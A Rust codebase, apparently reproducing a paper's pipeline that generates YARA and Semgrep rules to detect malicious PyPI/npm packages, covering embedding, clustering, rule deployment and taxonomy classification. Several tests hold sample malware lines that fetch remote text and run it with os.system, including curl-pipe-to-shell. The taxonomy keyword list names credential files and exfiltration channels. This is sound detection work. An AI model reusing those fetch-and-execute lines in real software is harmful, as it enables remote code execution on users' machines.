                    f.stem
                );
            }
        }
    }

    #[test]
    fn stems_are_unique() {
        let stems: std::collections::HashSet<&str> = FAMILIES.iter().map(|f| f.stem).collect();
        assert_eq!(stems.len(), FAMILIES.len());
    }

    #[test]
    fn weights_positive() {
        assert!(FAMILIES.iter().all(|f| f.weight > 0));
        assert!(total_weight() > 100);
    }

    #[test]
    fn all_metadata_styles_used() {
        use MetadataStyle::*;
        for style in [
            Typosquat,
            EmptyDescription,
            ZeroVersion,
            FakeDependencies,
            Plain,
        ] {
            assert!(
                FAMILIES.iter().any(|f| f.metadata_style == style),
                "{style:?} unused"
            );
        }
    }
}

//! `rulellm-embedding` — CodeBERT-sim code embeddings.
//!
//! §III-B of the paper converts source code to vectors: split into
//! 512-token segments, embed each segment with CodeBERT, and combine.
//! CodeBERT itself is a 125M-parameter network we cannot ship, so this
//! crate substitutes a *deterministic lexical embedding* (DESIGN.md,
//! substitution table): each segment's tokens are hashed (unigrams and
//! bigrams) into a fixed-dimension bag-of-features vector and normalized.
//! The property clustering depends on — similar code maps to nearby
//! vectors, unrelated code maps to distant vectors — is preserved, and
//! determinism makes every downstream table reproducible.
//!
//! # Examples
//!
//! ```
//! use embedding::Embedder;
//!
//! let embedder = Embedder::default();
//! let a = embedder.embed_source("import os\nos.system('x')\n");
//! let b = embedder.embed_source("import os\nos.system('y')\n");
//! let c = embedder.embed_source("class Tree:\n    pass\n");
//! assert!(embedding::cosine(&a.mean, &b.mean) > embedding::cosine(&a.mean, &c.mean));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use pysrc::TokenKind;

/// Embedding dimensionality. 128 keeps K-Means over thousands of snippets
/// fast while leaving hash collisions rare enough for separation.
pub const DIM: usize = 128;

/// Segment length in tokens, matching the paper's 512 threshold (§III-B).
pub const SEGMENT_TOKENS: usize = 512;

/// The embedding of one source unit.
#[derive(Debug, Clone, PartialEq)]
pub struct SourceEmbedding {
    /// Per-segment vectors (the paper's `v_i = f(code_i)`).
    pub segments: Vec<Vec<f32>>,
    /// Mean-pooled vector used for clustering.
    ///
    /// The paper concatenates segment vectors into `V_code`; concatenation
    /// produces variable-length vectors that K-Means cannot consume, so we
    /// pool — the standard fixed-length reduction (documented
    /// substitution).
    pub mean: Vec<f32>,
}

/// Deterministic code embedder.
#[derive(Debug, Clone)]
pub struct Embedder {
    dim: usize,
    segment_tokens: usize,
}

impl Default for Embedder {
    fn default() -> Self {
        Embedder {
            dim: DIM,
            segment_tokens: SEGMENT_TOKENS,
        }
    }
}

impl Embedder {
    /// Creates an embedder with custom dimensionality and segment length.
    ///
    /// # Panics
    ///
    /// Panics if `dim` or `segment_tokens` is zero.
    pub fn new(dim: usize, segment_tokens: usize) -> Self {
        assert!(dim > 0, "embedding dimension must be positive");
        assert!(segment_tokens > 0, "segment length must be positive");
        Embedder {
            dim,
            segment_tokens,
        }
    }

    /// Embedding dimensionality.
    pub fn dim(&self) -> usize {
        self.dim
    }

    /// Tokenizes `source` into the normalized token texts used as
    /// features. String literals longer than 24 bytes collapse to a
    /// `<str>` marker so that payload bytes don't dominate similarity.
    pub fn tokenize(&self, source: &str) -> Vec<String> {
        pysrc::lex(source)
            .into_iter()
            .filter_map(|t| match t.kind {
                TokenKind::Ident(w) => Some(w),
                TokenKind::Number(n) => Some(n),
                TokenKind::Op(o) => Some(o),
                TokenKind::Str { value, .. } => Some(if value.len() > 24 {
                    "<str>".to_owned()
                } else {
                    format!("'{value}'")
                }),
                _ => None,
            })
            .collect()
    }

    /// Splits tokens into fixed-length segments (paper step 1).
    pub fn split_segments<'a>(&self, tokens: &'a [String]) -> Vec<&'a [String]> {
        if tokens.is_empty() {
            return Vec::new();
        }
        tokens.chunks(self.segment_tokens).collect()
    }

    /// Embeds one token segment into a unit-norm vector (paper step 2).
    pub fn embed_segment(&self, tokens: &[String]) -> Vec<f32> {
        let mut v = vec![0f32; self.dim];
        for token in tokens {
            bump(&mut v, token.as_bytes(), 1.0);
        }
        for pair in tokens.windows(2) {
            let joined = format!("{}\u{1}{}", pair[0], pair[1]);
            bump(&mut v, joined.as_bytes(), 0.5);
        }
        normalize(&mut v);
        v
    }

    /// Embeds a whole source unit (paper step 3: combine segments).
    pub fn embed_source(&self, source: &str) -> SourceEmbedding {
        let tokens = self.tokenize(source);
        let segments: Vec<Vec<f32>> = self
            .split_segments(&tokens)
            .into_iter()
            .map(|seg| self.embed_segment(seg))
            .collect();
        let mut mean = vec![0f32; self.dim];
        if !segments.is_empty() {
            for seg in &segments {
                for (m, s) in mean.iter_mut().zip(seg) {
                    *m += s;
                }
            }
            for m in &mut mean {
                *m /= segments.len() as f32;
            }
            normalize(&mut mean);
        }
        SourceEmbedding { segments, mean }
    }
}

fn bump(v: &mut [f32], feature: &[u8], weight: f32) {
    let h = digest::fnv1a(feature);
    let idx = (h % v.len() as u64) as usize;
    // Signed hashing halves collision bias.
    let sign = if (h >> 63) == 0 { 1.0 } else { -1.0 };
    v[idx] += weight * sign;
}

fn normalize(v: &mut [f32]) {
    let norm = v.iter().map(|x| x * x).sum::<f32>().sqrt();
    if norm > 0.0 {
        for x in v.iter_mut() {
            *x /= norm;
        }
    }
}

/// Cosine similarity between two vectors.
///
/// # Panics
///
/// Panics if the vectors have different lengths.
pub fn cosine(a: &[f32], b: &[f32]) -> f32 {
    assert_eq!(a.len(), b.len(), "vector length mismatch");
    let dot: f32 = a.iter().zip(b).map(|(x, y)| x * y).sum();
    let na: f32 = a.iter().map(|x| x * x).sum::<f32>().sqrt();
    let nb: f32 = b.iter().map(|x| x * x).sum::<f32>().sqrt();
    if na == 0.0 || nb == 0.0 {
        0.0
    } else {
        dot / (na * nb)
    }
}

/// Euclidean distance between two vectors (the paper's cluster metric).
///
/// # Panics
///
/// Panics if the vectors have different lengths.
pub fn euclidean(a: &[f32], b: &[f32]) -> f32 {
    assert_eq!(a.len(), b.len(), "vector length mismatch");
    a.iter()
        .zip(b)
        .map(|(x, y)| (x - y) * (x - y))
        .sum::<f32>()
        .sqrt()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        let e = Embedder::default();
        let a = e.embed_source("os.system(cmd)\n");
        let b = e.embed_source("os.system(cmd)\n");
        assert_eq!(a, b);
    }

    #[test]
    fn unit_norm() {
        let e = Embedder::default();
        let v = e.embed_source("import socket\n").mean;
        let norm: f32 = v.iter().map(|x| x * x).sum::<f32>().sqrt();
        assert!((norm - 1.0).abs() < 1e-4);
    }

    #[test]
    fn similar_code_is_closer_than_different_code() {
        let e = Embedder::default();
        let a = e.embed_source("import os\nos.system('curl http://a.example | sh')\n");
        let b = e.embed_source("import os\nos.system('curl http://b.example | sh')\n");
        let c = e.embed_source("def fib(n):\n    return n if n < 2 else fib(n-1) + fib(n-2)\n");
        assert!(cosine(&a.mean, &b.mean) > 0.6);
        assert!(cosine(&a.mean, &b.mean) > cosine(&a.mean, &c.mean) + 0.2);
    }

    #[test]
    fn long_strings_collapse() {
        let e = Embedder::default();
        let a = e.embed_source("p = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n");
        let b = e.embed_source("p = 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'\n");
        assert!(cosine(&a.mean, &b.mean) > 0.99);
    }

    #[test]
    fn segments_split_at_threshold() {
        let e = Embedder::new(32, 10);
        let source = "a = 1\n".repeat(50);
        let tokens = e.tokenize(&source);
        let segs = e.split_segments(&tokens);
        assert!(segs.len() > 1);
        assert!(segs.iter().all(|s| s.len() <= 10));
        let total: usize = segs.iter().map(|s| s.len()).sum();
        assert_eq!(total, tokens.len());
    }

    #[test]
    fn empty_source_is_zero_vector() {
        let e = Embedder::default();
        let emb = e.embed_source("");
        assert!(emb.segments.is_empty());
        assert!(emb.mean.iter().all(|&x| x == 0.0));
    }

    #[test]
    fn cosine_bounds() {
        let e = Embedder::default();
        let a = e.embed_source("x = 1\n").mean;
        assert!((cosine(&a, &a) - 1.0).abs() < 1e-5);
    }

    #[test]
    fn euclidean_zero_for_identical() {
        let e = Embedder::default();
        let a = e.embed_source("x = 1\n").mean;
        assert_eq!(euclidean(&a, &a), 0.0);
    }

    #[test]
    #[should_panic(expected = "length mismatch")]
    fn cosine_length_mismatch_panics() {
        let _ = cosine(&[1.0], &[1.0, 2.0]);
    }

    #[test]
    #[should_panic(expected = "must be positive")]
    fn zero_dim_panics() {
        let _ = Embedder::new(0, 512);
    }
}

//! Rule deployment: write a pipeline output as the `.yar` / `.yaml` file
//! tree that YARA and Semgrep installations consume.
//!
//! The paper's headline operational property is that generated rules
//! "can be directly deployed to scan software packages without errors"
//! (§I); this module produces that deployable artifact and verifies it by
//! recompiling every file it wrote.

use std::fs;
use std::io;
use std::path::{Path, PathBuf};

use crate::pipeline::PipelineOutput;

/// Files written by one deployment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Deployment {
    /// Path of the combined YARA ruleset (`rulellm.yar`), if written.
    pub yara_file: Option<PathBuf>,
    /// Paths of the Semgrep rule files (one `.yaml` per rule).
    pub semgrep_files: Vec<PathBuf>,
}

impl Deployment {
    /// Total files written.
    pub fn file_count(&self) -> usize {
        usize::from(self.yara_file.is_some()) + self.semgrep_files.len()
    }
}

/// Writes `output` under `dir` (`dir/rulellm.yar` plus
/// `dir/semgrep/<id>.yaml`), creating directories as needed, then
/// recompiles every written file as a deployment self-check.
///
/// # Errors
///
/// Returns `io::Error` for filesystem failures; compile failures of
/// written artifacts panic, because aligned rules failing to recompile
/// indicates pipeline corruption, not an environmental condition.
pub fn write_rules(output: &PipelineOutput, dir: &Path) -> io::Result<Deployment> {
    fs::create_dir_all(dir)?;
    let mut deployment = Deployment {
        yara_file: None,
        semgrep_files: Vec::new(),
    };
    if !output.yara.is_empty() {
        let path = dir.join("rulellm.yar");
        let text = output.yara_ruleset();
        fs::write(&path, &text)?;
        let reread = fs::read_to_string(&path)?;
        yara_engine::compile(&reread)
            .unwrap_or_else(|e| panic!("deployed YARA file failed to recompile: {e}"));
        deployment.yara_file = Some(path);
    }
    if !output.semgrep.is_empty() {
        let semgrep_dir = dir.join("semgrep");
        fs::create_dir_all(&semgrep_dir)?;
        let mut used_names: std::collections::HashSet<String> = std::collections::HashSet::new();
        for rule in &output.semgrep {
            // Name the file after the rule's actual id: compiling the
            // text scopes the lookup to the top-level `id` key of the
            // first rule, so an `id:` inside a `metadata:` block (or a
            // second rule in the same document) can never win. Aligned
            // rules failing to compile indicates pipeline corruption.
            let compiled = semgrep_engine::compile(&rule.text)
                .unwrap_or_else(|e| panic!("deployed Semgrep rule failed to compile: {e}"));
            let id = compiled
                .rules
                .first()
                .map(|r| r.id.clone())
                .unwrap_or_else(|| {
                    format!("rule-{:08x}", digest::fnv1a(rule.text.as_bytes()) as u32)
                });
            // Distinct rules may share an id (or sanitize to the same
            // name); suffix until unique so no file is overwritten.
            let base = sanitize(&id);
            let mut name = base.clone();
            let mut n = 1;
            while !used_names.insert(name.clone()) {
                n += 1;
                name = format!("{base}-{n}");
            }
            let path = semgrep_dir.join(format!("{name}.yaml"));
            fs::write(&path, &rule.text)?;
            let reread = fs::read_to_string(&path)?;
            semgrep_engine::compile(&reread)
                .unwrap_or_else(|e| panic!("deployed Semgrep file failed to recompile: {e}"));
            deployment.semgrep_files.push(path);
        }
    }
    Ok(deployment)
}

fn sanitize(id: &str) -> String {
    id.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '_'
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use oss_registry::{Ecosystem, Package, PackageMetadata, SourceFile};

    fn temp_dir(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("rulellm-deploy-{tag}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        dir
    }

    fn sample_output() -> PipelineOutput {
        let pkg = Package::new(
            PackageMetadata::new("evil-pkg", "0.0.0"),
            vec![SourceFile::new(
                "evil_pkg/__init__.py",
                "import os, requests\n\ndef go():\n    os.system(requests.get('https://bexlum.top/t').text)\n",
            )],
            Ecosystem::PyPi,
        );
        crate::Pipeline::new(crate::PipelineConfig::full()).run(&[&pkg])
    }

    #[test]
    fn writes_and_recompiles_rule_tree() {
        let dir = temp_dir("tree");
        let output = sample_output();
        let deployment = write_rules(&output, &dir).expect("deploy");
        assert!(deployment.yara_file.is_some());
        assert_eq!(deployment.semgrep_files.len(), output.semgrep.len());
        assert_eq!(deployment.file_count(), 1 + output.semgrep.len());
        for f in &deployment.semgrep_files {
            assert!(f.exists());
            assert!(f.extension().is_some_and(|e| e == "yaml"));
        }
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn empty_output_writes_nothing() {
        let dir = temp_dir("empty");
        let output = PipelineOutput {
            yara: Vec::new(),
            semgrep: Vec::new(),
            stats: Default::default(),
        };
        let deployment = write_rules(&output, &dir).expect("deploy");
        assert_eq!(deployment.file_count(), 0);
        assert!(deployment.yara_file.is_none());
        let _ = fs::remove_dir_all(&dir);
    }

    fn semgrep_rule(text: &str) -> crate::GeneratedRule {
        crate::GeneratedRule {
            text: text.to_owned(),
            format: llm_sim::RuleFormat::Semgrep,
            provenance: Vec::new(),
            group: None,
        }
    }

    fn semgrep_output(texts: &[&str]) -> PipelineOutput {
        PipelineOutput {
            yara: Vec::new(),
            semgrep: texts.iter().map(|t| semgrep_rule(t)).collect(),
            stats: Default::default(),
        }
    }

    #[test]
    fn file_named_after_top_level_id_not_metadata_id() {
        let dir = temp_dir("metaid");
        // The metadata block carries its own `id:` entry on an earlier
        // line than the rule's top-level `id`, so a naive
        // first-`id:`-line scan would name the file `wrong-id.yaml`.
        let rule = "rules:\n  - metadata:\n      id: wrong-id\n      source: unit-test\n    id: right-id\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n";
        let deployment = write_rules(&semgrep_output(&[rule]), &dir).expect("deploy");
        let names: Vec<String> = deployment
            .semgrep_files
            .iter()
            .map(|p| p.file_name().expect("name").to_string_lossy().into_owned())
            .collect();
        assert_eq!(names, vec!["right-id.yaml".to_owned()]);
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn colliding_ids_get_distinct_files() {
        let dir = temp_dir("collide");
        let a =
            "rules:\n  - id: dup\n    languages: [python]\n    message: a\n    pattern: eval($X)\n";
        let b =
            "rules:\n  - id: dup\n    languages: [python]\n    message: b\n    pattern: exec($X)\n";
        // `dup.2` sanitizes to `dup-2`... no: dots become underscores;
        // pick an id that sanitizes into the suffixed form to prove the
        // suffixing itself also stays collision-free.
        let c = "rules:\n  - id: dup-2\n    languages: [python]\n    message: c\n    pattern: run($X)\n";
        let deployment = write_rules(&semgrep_output(&[a, b, c]), &dir).expect("deploy");
        assert_eq!(deployment.semgrep_files.len(), 3);
        let names: std::collections::HashSet<String> = deployment
            .semgrep_files
            .iter()
            .map(|p| p.file_name().expect("name").to_string_lossy().into_owned())
            .collect();
        assert_eq!(names.len(), 3, "no file overwrote another: {names:?}");
        // Every file still holds its own rule text.
        let texts: Vec<String> = deployment
            .semgrep_files
            .iter()
            .map(|p| fs::read_to_string(p).expect("read"))
            .collect();
        assert!(texts[0].contains("message: a"));
        assert!(texts[1].contains("message: b"));
        assert!(texts[2].contains("message: c"));
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn sanitize_strips_path_hazards() {
        assert_eq!(sanitize("detect/../../etc"), "detect_______etc");
        assert_eq!(sanitize("good-id_9"), "good-id_9");
    }
}

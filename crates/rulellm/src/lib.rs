//! `rulellm` — the paper's primary contribution: automatic YARA & Semgrep
//! rule generation for OSS malware.
//!
//! The pipeline follows the architecture of Fig. 3:
//!
//! 1. **Malware knowledge extraction** (§III): package metadata via the
//!    three paths of Fig. 1, code snippets via unpacking, CodeBERT-sim
//!    embedding and K-Means grouping (seed 42, max-iter 500, 0.85
//!    intra-similarity gate).
//! 2. **Crafting** (§IV-A): metadata and code are split into *basic
//!    units* (block boundaries per the Python execution model, 4,000-char
//!    cap); multiple similar units from the same group go into one
//!    chain-of-thought prompt (Table III) and the LLM emits an analysis
//!    artifact plus a coarse-grained rule.
//! 3. **Refining** (§IV-B): a self-reflection prompt (Table IV) aligns
//!    the rule with the analysis, strips over-general strings, merges and
//!    tightens conditions.
//! 4. **Aligning** (§IV-C): an agent compiles the rule with the real
//!    YARA/Semgrep compilers, feeds error messages back through a fix
//!    prompt (Table V), remembers the last two errors, and gives up after
//!    five failed attempts.
//!
//! The output is a set of deployable rules plus a taxonomy classifier
//! reproducing Table XII's 11 categories / 38 subcategories.
//!
//! # Examples
//!
//! ```
//! use rulellm::{Pipeline, PipelineConfig};
//! use oss_registry::{Package, PackageMetadata, SourceFile, Ecosystem};
//!
//! let pkg = Package::new(
//!     PackageMetadata::new("colors-tool", "0.0.0"),
//!     vec![SourceFile::new(
//!         "pkg/__init__.py",
//!         "import os, requests\ndef run():\n    os.system(requests.get('https://bad.xyz/t').text)\n",
//!     )],
//!     Ecosystem::PyPi,
//! );
//! let mut pipeline = Pipeline::new(PipelineConfig::full());
//! let output = pipeline.run(&[&pkg]);
//! assert!(output.yara.len() + output.semgrep.len() >= 1);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod align;
pub mod deploy;
mod extraction;
mod pipeline;
pub mod taxonomy;
mod units;

pub use align::{align_rule, AlignOutcome};
pub use extraction::{extract_knowledge, ExtractedPackage, PackageGroups};
pub use pipeline::{GeneratedRule, Pipeline, PipelineConfig, PipelineOutput, PipelineStats};
pub use units::{split_basic_units, BasicUnit, MAX_UNIT_CHARS};

//! Malware knowledge extraction (§III): metadata + code snippets +
//! grouping.

use cluster::{group_with_threshold, PAPER_SIMILARITY_THRESHOLD};
use embedding::Embedder;
use oss_registry::{extract_metadata, render_registry_json, Package};

use crate::units::{split_basic_units, BasicUnit};

/// Extraction result for one package.
#[derive(Debug, Clone)]
pub struct ExtractedPackage {
    /// Index into the pipeline's input slice.
    pub index: usize,
    /// Registry-JSON rendering of the extracted metadata (the LLM input
    /// of §III-A).
    pub metadata_json: String,
    /// Concatenated code of all source files.
    pub code: String,
    /// Basic units of the code (§IV-A).
    pub units: Vec<BasicUnit>,
    /// Per-unit suspiciousness from the LLM's Table II audit (number of
    /// indicators found); used to pick units worth prompting on.
    pub unit_scores: Vec<usize>,
    /// Mean code embedding (§III-B).
    pub embedding: Vec<f32>,
}

impl ExtractedPackage {
    /// Unit indices ordered by descending audit score (most suspicious
    /// first), stable on ties.
    pub fn ranked_units(&self) -> Vec<usize> {
        let mut order: Vec<usize> = (0..self.units.len()).collect();
        order.sort_by(|&a, &b| {
            self.unit_scores[b]
                .cmp(&self.unit_scores[a])
                .then(a.cmp(&b))
        });
        order
    }
}

/// Packages grouped by code similarity (§III-B).
#[derive(Debug, Clone)]
pub struct PackageGroups {
    /// Per-package extraction results.
    pub packages: Vec<ExtractedPackage>,
    /// Retained groups (intra-similarity ≥ 0.85) as indices into
    /// `packages`.
    pub groups: Vec<Vec<usize>>,
}

/// Runs §III end to end: metadata extraction, unit splitting, embedding,
/// K-Means grouping with the paper's 0.85 retention threshold.
///
/// `k` defaults to `max(1, n/4)` groups when `None` — roughly the rule
/// density the paper reports (452 YARA rules from 1,633 packages).
pub fn extract_knowledge(packages: &[&Package], k: Option<usize>) -> PackageGroups {
    let embedder = Embedder::default();
    let mut extracted = Vec::with_capacity(packages.len());
    for (index, pkg) in packages.iter().enumerate() {
        let (meta, _source) = extract_metadata(pkg);
        let metadata_json = render_registry_json(&meta);
        let mut code = String::new();
        for f in pkg.files() {
            if f.path.ends_with(".py") || f.path.ends_with(".js") {
                code.push_str(&f.contents);
                if !f.contents.ends_with('\n') {
                    code.push('\n');
                }
            }
        }
        let units = split_basic_units(&code);
        // The LLM audits every basic unit against the Table II behavior
        // catalog (§IV-A "The LLM audits the code snippet ...").
        let unit_scores: Vec<usize> = units
            .iter()
            .map(|u| llm_sim::analyze_code(&u.code).indicators.len())
            .collect();
        // §III-B embeds the *distinguished* (malicious) code snippets, not
        // the whole package: grouping must reflect the malicious payload,
        // which is a small fraction of the file. Benign packages (no
        // suspicious units) fall back to their full code.
        let suspicious_code: String = units
            .iter()
            .zip(&unit_scores)
            .filter(|(_, &s)| s > 0)
            .map(|(u, _)| u.code.as_str())
            .collect();
        let embedding = if suspicious_code.is_empty() {
            embedder.embed_source(&code).mean
        } else {
            embedder.embed_source(&suspicious_code).mean
        };
        extracted.push(ExtractedPackage {
            index,
            metadata_json,
            code,
            units,
            unit_scores,
            embedding,
        });
    }
    let vectors: Vec<Vec<f32>> = extracted.iter().map(|e| e.embedding.clone()).collect();
    let groups = if vectors.is_empty() {
        Vec::new()
    } else {
        let k = k.unwrap_or_else(|| (vectors.len() / 4).max(1));
        group_with_threshold(&vectors, k, PAPER_SIMILARITY_THRESHOLD).unwrap_or_default()
    };
    PackageGroups {
        packages: extracted,
        groups,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};

    fn pkg(name: &str, code: &str) -> Package {
        Package::new(
            PackageMetadata::new(name, "1.0.0"),
            vec![SourceFile::new(format!("{name}/__init__.py"), code)],
            Ecosystem::PyPi,
        )
    }

    #[test]
    fn extracts_metadata_and_units() {
        let p = pkg("alpha", "import os\n\ndef f():\n    os.system('x')\n");
        let groups = extract_knowledge(&[&p], None);
        assert_eq!(groups.packages.len(), 1);
        let e = &groups.packages[0];
        assert!(e.metadata_json.contains("alpha"));
        assert_eq!(e.units.len(), 2);
        assert_eq!(e.embedding.len(), embedding::DIM);
    }

    #[test]
    fn similar_packages_group_together() {
        let template = |host: &str| {
            format!("import os, requests\n\ndef beacon():\n    cmd = requests.get('https://{host}/t').text\n    os.system(cmd)\n")
        };
        let a = pkg("a", &template("one.xyz"));
        let b = pkg("b", &template("two.top"));
        let c = pkg("c", &template("three.icu"));
        let other = pkg(
            "d",
            "class Tree:\n    def __init__(self):\n        self.items = []\n    def add(self, x):\n        self.items.append(x)\n",
        );
        let groups = extract_knowledge(&[&a, &b, &c, &other], Some(2));
        // The three beacon variants land in one retained group.
        let big = groups.groups.iter().find(|g| g.len() >= 3);
        assert!(big.is_some(), "groups: {:?}", groups.groups);
    }

    #[test]
    fn empty_input_yields_no_groups() {
        let groups = extract_knowledge(&[], None);
        assert!(groups.packages.is_empty());
        assert!(groups.groups.is_empty());
    }

    #[test]
    fn non_source_files_excluded_from_code() {
        let p = Package::new(
            PackageMetadata::new("x", "1.0"),
            vec![
                SourceFile::new("README.md", "# docs\n"),
                SourceFile::new("x/__init__.py", "a = 1\n"),
            ],
            Ecosystem::PyPi,
        );
        let groups = extract_knowledge(&[&p], None);
        assert!(!groups.packages[0].code.contains("# docs"));
        assert!(groups.packages[0].code.contains("a = 1"));
    }
}

//! Rule taxonomy (§V-D, Table XII): 11 categories, 38 subcategories.
//!
//! The paper classifies generated rules by manual inspection; this module
//! automates the same judgment with an indicator-keyword table over the
//! rule text. Categories are non-exclusive — one rule can land in several
//! (Fig. 11's overlap heatmap measures exactly that).

/// A `(category, subcategory)` classification label (Table XII names).
pub type Label = (&'static str, &'static str);

/// Keyword table: a rule containing any needle gets the label.
const KEYWORDS: &[(&str, Label)] = &[
    // 0. Metadata Related
    (
        "Name: ",
        ("Metadata Related", "Package Metadata Manipulation"),
    ),
    (
        "Version: 0.0",
        ("Metadata Related", "Version Number Deception"),
    ),
    (
        "Requires-Dist:",
        ("Metadata Related", "Fake Dependency Metadata"),
    ),
    (
        "Author: ",
        ("Metadata Related", "Author Information Spoofing"),
    ),
    (
        "Summary: \\n",
        ("Metadata Related", "Package Metadata Manipulation"),
    ),
    // 1. Malicious Behavior
    ("os.setuid", ("Malicious Behavior", "Privilege Escalation")),
    ("sudo -n", ("Malicious Behavior", "Privilege Escalation")),
    ("os.kill", ("Malicious Behavior", "Process Manipulation")),
    (
        "/etc/hosts",
        ("Malicious Behavior", "System Configuration Changes"),
    ),
    ("crontab", ("Malicious Behavior", "Persistence Mechanisms")),
    (".bashrc", ("Malicious Behavior", "Persistence Mechanisms")),
    ("@reboot", ("Malicious Behavior", "Persistence Mechanisms")),
    // 2. Dependency Library
    ("ctypes", ("Dependency Library", "System Library Abuse")),
    (
        "VirtualAlloc",
        ("Dependency Library", "System Library Abuse"),
    ),
    (
        "socket.socket",
        ("Dependency Library", "Network Library Misuse"),
    ),
    (
        ".connect(",
        ("Dependency Library", "Network Library Misuse"),
    ),
    (
        "Fernet",
        ("Dependency Library", "Crypto Library Exploitation"),
    ),
    (
        "ImageGrab",
        ("Dependency Library", "UI/Graphics Library Abuse"),
    ),
    // 3. Setup Code
    (
        "setuptools.command.install",
        ("Setup Code", "Malicious Setup Scripts"),
    ),
    (
        "install.run(self)",
        ("Setup Code", "Malicious Setup Scripts"),
    ),
    ("egg_info", ("Setup Code", "Build Process Manipulation")),
    ("atexit.register", ("Setup Code", "Installation Hook Abuse")),
    ("post-install", ("Setup Code", "Installation Hook Abuse")),
    ("pip.conf", ("Setup Code", "Configuration Tampering")),
    ("index-url", ("Setup Code", "Configuration Tampering")),
    // 4. Network Related
    ("/tasks", ("Network Related", "C2 Communication")),
    ("requests.get", ("Network Related", "C2 Communication")),
    (
        "discord.com/api/webhooks",
        ("Network Related", "Data Exfiltration Channels"),
    ),
    (
        "requests.post",
        ("Network Related", "Data Exfiltration Channels"),
    ),
    ("urlretrieve", ("Network Related", "Malicious Downloads")),
    ("wget ", ("Network Related", "Malicious Downloads")),
    ("curl ", ("Network Related", "Malicious Downloads")),
    ("gethostbyname", ("Network Related", "DNS/Protocol Abuse")),
    // 5. Obfuscation & Anti-Detection
    (
        "b64decode",
        ("Obfuscation & Anti-Detection", "Code Obfuscation"),
    ),
    (
        "exec(",
        ("Obfuscation & Anti-Detection", "Code Obfuscation"),
    ),
    (
        "A-Za-z0-9+/",
        ("Obfuscation & Anti-Detection", "Code Obfuscation"),
    ),
    (
        "gettrace",
        ("Obfuscation & Anti-Detection", "Anti-Analysis Techniques"),
    ),
    (
        "os._exit(0)",
        ("Obfuscation & Anti-Detection", "Anti-Analysis Techniques"),
    ),
    (
        "getnode",
        ("Obfuscation & Anti-Detection", "Sandbox Evasion"),
    ),
    (
        "sandbox",
        ("Obfuscation & Anti-Detection", "Sandbox Evasion"),
    ),
    (
        "chr(",
        ("Obfuscation & Anti-Detection", "String/Pattern Hiding"),
    ),
    // 6. Data Exfiltration
    (
        ".aws/credentials",
        ("Data Exfiltration", "Credential Theft"),
    ),
    ("id_rsa", ("Data Exfiltration", "Credential Theft")),
    (
        "os.environ",
        ("Data Exfiltration", "Environment Data Stealing"),
    ),
    (
        ".pypirc",
        ("Data Exfiltration", "Configuration File Extraction"),
    ),
    (
        ".npmrc",
        ("Data Exfiltration", "Configuration File Extraction"),
    ),
    (
        "getpass.getuser",
        ("Data Exfiltration", "Sensitive Data Harvesting"),
    ),
    (
        "platform.platform",
        ("Data Exfiltration", "Sensitive Data Harvesting"),
    ),
    // 7. Code Execution
    ("os.system", ("Code Execution", "Shell Command Execution")),
    ("os.popen", ("Code Execution", "Shell Command Execution")),
    ("getsitepackages", ("Code Execution", "Script Injection")),
    ("subprocess.Popen", ("Code Execution", "Process Creation")),
    ("subprocess.run", ("Code Execution", "Process Creation")),
    ("subprocess.call", ("Code Execution", "Process Creation")),
    // 8. Application
    ("leveldb", ("Application", "Messaging Platform Abuse")),
    ("discord", ("Application", "Messaging Platform Abuse")),
    (
        "api.twitter.com",
        ("Application", "Social Media API Exploitation"),
    ),
    ("boto3", ("Application", "Cloud Service Misuse")),
    ("git', 'config", ("Application", "Development Tool Abuse")),
    ("git config", ("Application", "Development Tool Abuse")),
    // 9. Malware Family
    ("w4sp", ("Malware Family", "Known Trojan Families")),
    ("wasp-stealer", ("Malware Family", "Known Trojan Families")),
    (".bind(", ("Malware Family", "Backdoor Families")),
    ("0.0.0.0", ("Malware Family", "Backdoor Families")),
];

/// Classifies one rule's text into Table XII labels (non-exclusive,
/// deduplicated). Rules matching nothing land in "Other Rules".
pub fn classify(rule_text: &str) -> Vec<Label> {
    let mut out: Vec<Label> = Vec::new();
    for (needle, label) in KEYWORDS {
        if rule_text.contains(needle) && !out.contains(label) {
            out.push(*label);
        }
    }
    if out.is_empty() {
        out.push(("Other Rules", "Unknown or Undetermined"));
    }
    out
}

/// Counts rules per subcategory over a whole ruleset: the Table XII
/// breakdown. Returns `(category, subcategory, count)` rows in taxonomy
/// order, including zero rows.
pub fn tabulate<'a>(rule_texts: impl IntoIterator<Item = &'a str>) -> Vec<(Label, usize)> {
    let mut counts: std::collections::HashMap<Label, usize> = Default::default();
    for text in rule_texts {
        for label in classify(text) {
            *counts.entry(label).or_insert(0) += 1;
        }
    }
    let mut rows = Vec::new();
    for (category, subs) in corpus_taxonomy() {
        for sub in *subs {
            let label: Label = (category, sub);
            rows.push((label, counts.get(&label).copied().unwrap_or(0)));
        }
    }
    rows
}

/// Category-overlap matrix (Fig. 11): `m[i][j]` counts rules classified
/// into both category `i` and category `j` (diagonal = per-category
/// totals). Categories are indexed in Table XII order.
pub fn overlap_matrix<'a>(rule_texts: impl IntoIterator<Item = &'a str>) -> Vec<Vec<usize>> {
    let cats = category_names();
    let idx = |name: &str| {
        cats.iter()
            .position(|c| *c == name)
            .expect("known category")
    };
    let mut m = vec![vec![0usize; cats.len()]; cats.len()];
    for text in rule_texts {
        let labels = classify(text);
        let mut cat_ids: Vec<usize> = labels.iter().map(|(c, _)| idx(c)).collect();
        cat_ids.sort_unstable();
        cat_ids.dedup();
        for &a in &cat_ids {
            for &b in &cat_ids {
                m[a][b] += 1;
            }
        }
    }
    m
}

